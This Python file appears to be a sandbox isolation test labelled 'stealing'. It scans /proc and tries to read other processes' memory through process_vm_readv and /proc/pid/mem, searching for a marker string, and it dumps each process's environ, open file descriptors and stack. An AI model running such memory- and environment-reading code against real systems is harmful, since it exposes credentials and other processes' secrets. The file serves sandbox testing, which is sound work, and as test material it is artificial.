# ruff: noqa
"""Reads the memory, the files and the stacks of every process that it can name."""

FAMILY = "stealing"
MAY_PASS = []
MUST_NOT = "The memory of the grader, of the fork server or of another sandbox can be read."

# %%
import ctypes
import os
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
MARK = b"MARK" + b"ER-"


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def regions(pid):
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw-p" in line and end - start <= 2**26:
            yield start, end - start


def read_by_call(pid, start, length):
    block = ctypes.create_string_buffer(length)
    here, there = Vector(ctypes.addressof(block), length), Vector(start, length)
    call = 310 if os.uname().machine == "x86_64" else 270  # process_vm_readv
    count = libc.syscall(call, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return block.raw[: max(count, 0)]


def read_by_file(pid, start, length):
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        return os.pread(memory.fileno(), length, start)


threads = {int(name) for name in os.listdir("/proc/self/task")}
pids = {int(path.name) for path in Path("/proc").glob("[0-9]*")} | {os.getppid(), *range(1, 300)}
for pid in pids - threads - {0}:
    for read in (read_by_call, read_by_file):
        try:
            for start, length in regions(pid):
                block = read(pid, start, length)
                if MARK in block:
                    print(pid, read.__name__, block[block.find(MARK) :][:24])
        except OSError:
            pass
    for name in ("cwd", "root", "exe", "fd", "environ", "stack", "syscall", "task", "ns/pid"):
        try:
            place = f"/proc/{pid}/{name}"
            print(pid, name, os.listdir(place) if os.path.isdir(place) else open(place, "rb").read(2000))
        except OSError:
            pass
